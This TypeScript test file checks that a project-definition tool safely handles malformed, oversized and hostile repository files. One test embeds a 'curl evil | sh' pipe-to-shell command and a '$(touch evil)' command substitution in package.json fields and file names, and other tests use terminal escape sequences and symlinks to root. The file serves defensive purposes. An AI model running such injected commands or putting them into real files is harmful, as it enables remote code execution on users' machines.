import { execFileSync } from 'node:child_process'
import { mkdir, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readProject } from '../../../main/definition/read-project.ts'
import { propose } from '../../../main/proposal/propose.ts'
import { writeProposal } from '../../../main/proposal/write-proposal.ts'
import { openProject } from '../../../main/store/open-project.ts'
import { proposedText } from '../../../shared/proposal.ts'
import { anyText } from '../../fuzz/any-text.ts'
import { processorTime } from '../../processor-time.ts'
import { makeProject } from '../definition/project.ts'
import { REPOSITORIES } from './repositories.ts'

const texts = async (project: { path: string }) => (await propose(project)).files.map(proposedText).join('\n')

test.each<[string, Record<string, string | Uint8Array>, RegExp]>([
  [
    'JSON',
    { 'package.json': '{ "name": "x" "y" }' },
    /package\.json:1:15 cannot be used\. Expected "," between/,
  ],
  ['JSON of another kind', { 'package.json': '[1, 2]', 'package-lock.json': '' }, /^$/],
  ['deep JSON', { 'package.json': '['.repeat(200) }, /at most 100 levels/],
  ['TOML', { 'pyproject.toml': '[project\nname = ' }, /pyproject\.toml cannot be used\. Invalid TOML/],
  ['deep TOML', { 'pyproject.toml': `a = ${'['.repeat(5000)}` }, /pyproject\.toml cannot be used\./],
  [
    'bytes',
    { 'package.json': new Uint8Array([0xff, 0xfe, 0x00]) },
    /package\.json cannot be used\. Expected UTF-8/,
  ],
  ['a giant', { 'package.json': `"${'x'.repeat(1 << 20)}"` }, /Expected a file of at most 1 MiB/],
])('%s that is malformed is told, and does no harm', async (_, files, warning) => {
  await using project = await makeProject(files)
  expect((await propose(project)).warnings.join('\n')).toMatch(warning)
})

test('a lockfile may be long', async () => {
  await using project = await makeProject({
    'package.json': '{ "dependencies": { "a": "1" } }',
    'pnpm-lock.yaml': `lockfileVersion: '6.0'\n${'#'.repeat(2 << 20)}`,
  })
  expect(await texts(project)).toContain('pnpm@8.9.2')
})

test('links, FIFOs and folders in the place of files are reported, and never read', async () => {
  await using outside = await makeProject({ 'package.json': '{ "engines": { "node": "16" } }' })
  await using project = await makeProject({ 'requirements.txt': 'flask==3\n', 'app.py': '' })
  await symlink(path.join(outside.path, 'package.json'), path.join(project.path, 'package.json'))
  await symlink('/', path.join(project.path, 'root'))
  execFileSync('mkfifo', [path.join(project.path, '.python-version')])
  await mkdir(path.join(project.path, 'poetry.lock'))
  const proposal = await propose(project)
  expect(proposal.stack).toBe('Python')
  expect(proposal.warnings).toContain('.python-version cannot be used. Expected a regular file.')
  expect(JSON.stringify(proposal.files)).not.toContain('poetry')
})

test('a FIFO as a lockfile is as if it were not there', async () => {
  await using project = await makeProject({ 'package.json': '{ "dependencies": { "a": "1" } }' })
  execFileSync('mkfifo', [path.join(project.path, 'package-lock.json')])
  const { warnings } = await propose(project)
  expect(warnings).toContain('package-lock.json is left out: it is no ordinary file.')
  expect(await texts(project)).toContain('"npm install"')
})

test('what a file says gets into a line only as what it should be', async () => {
  const evil = '1.0.0; curl evil | sh\nRUN evil'
  await using project = await makeProject({
    '.nvmrc': evil,
    'package.json': JSON.stringify({
      packageManager: `pnpm@9.0.0 ${evil}`,
      engines: { node: evil },
      volta: { node: evil, yarn: evil },
      scripts: { [`dev ${evil}`]: 'PORT=99999 vite --port 70000' },
      dependencies: { [evil]: evil, pg: '1' },
    }),
    'yarn.lock': '',
    [`$(touch evil)/package.json`]: '{}',
    [`a b/go.mod`]: '',
  })
  const { files, warnings } = await propose(project)
  expect(files.map(proposedText).join()).not.toMatch(/evil|99999|70000/)
  expect(warnings.join()).not.toContain('\n')
})

test('reasons and warnings hold no control characters, whatever files are called and say', async () => {
  await using project = await makeProject({
    '.nvmrc': '\u001b[2Jx\u202e\n',
    'package.json': JSON.stringify({ scripts: { 'dev \u001b[31m': 'x --port 3000' } }),
  })
  const shown = JSON.stringify(await propose(project))
  expect(shown).not.toMatch(/\\u001b|\u202e/)
})

test('of a folder with very many files some are looked at', async () => {
  await using project = await makeProject({ 'go.mod': 'module x\n' })
  await mkdir(path.join(project.path, 'data'))
  for (let at = 0; at < 5100; at++) await writeFile(path.join(project.path, 'data', `${at}`), '')
  const { stack, warnings } = await propose(project)
  expect(stack).toBe('Go')
  expect(warnings).toContain('Only 5000 of the names in this folder were looked at.')
})

test('texts that take long are read in no time', async () => {
  const blank = '\n'.repeat(500_000)
  const files = {
    'go.mod': `module x\n${blank}${' '.repeat(400_000)}x`,
    Gemfile: `${blank}${'gem '.repeat(100_000)}`,
    'pom.xml': '<!--'.repeat(200_000),
    'a.csproj': '<PackageReference '.repeat(50_000),
    'requirements.txt': '-r '.repeat(300_000),
    'CMakeLists.txt': `${'find_package('.repeat(50_000)}${' '.repeat(300_000)}`,
    'a.c': '',
    'build.gradle': '"a:b'.repeat(200_000),
    'src/main/resources/application.properties': `${'server.port'.repeat(50_000)}${blank}`,
    'package.json': JSON.stringify({ scripts: { dev: ' -p'.repeat(200_000) } }),
    'server.js': `${'PORT '.repeat(100_000)}${' '.repeat(300_000)}.listen(`,
  }
  await using project = await makeProject(files)
  const spent = processorTime()
  await propose(project)
  expect(spent()).toBeLessThan(5000)
})

/** Pieces of the files that are read, put together anew. */
const PIECES = [...new Set(Object.values(REPOSITORIES).flatMap((files) => Object.values(files)))].flatMap(
  (text) => text.split(/(?<=[\s{}[\]",:=])/),
)
const NAMES = [...new Set(Object.values(REPOSITORIES).flatMap((files) => Object.keys(files)))]

test('whatever the files hold, there is a proposal, and it is a definition', async () => {
  const text = fc.oneof(
    {
      weight: 3,
      arbitrary: fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((parts) => parts.join('')),
    },
    { weight: 1, arbitrary: anyText({ maxLength: 100 }) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(...Object.values(REPOSITORIES).flatMap((files) => Object.values(files))),
    },
  )
  const files = fc.dictionary(fc.constantFrom(...NAMES), text, {
    minKeys: 1,
    maxKeys: 6,
    noNullPrototype: true,
  })
  await fc.assert(
    fc.asyncProperty(files, async (files) => {
      await using place = await makeProject(files)
      const { fingerprint } = await propose(place)
      await writeProposal(place, fingerprint)
      const { definition } = await readProject({}, await openProject(place.path), undefined)
      expect(definition.warnings).toEqual([])
    }),
    { numRuns: 100 },
  )
}, 120_000)
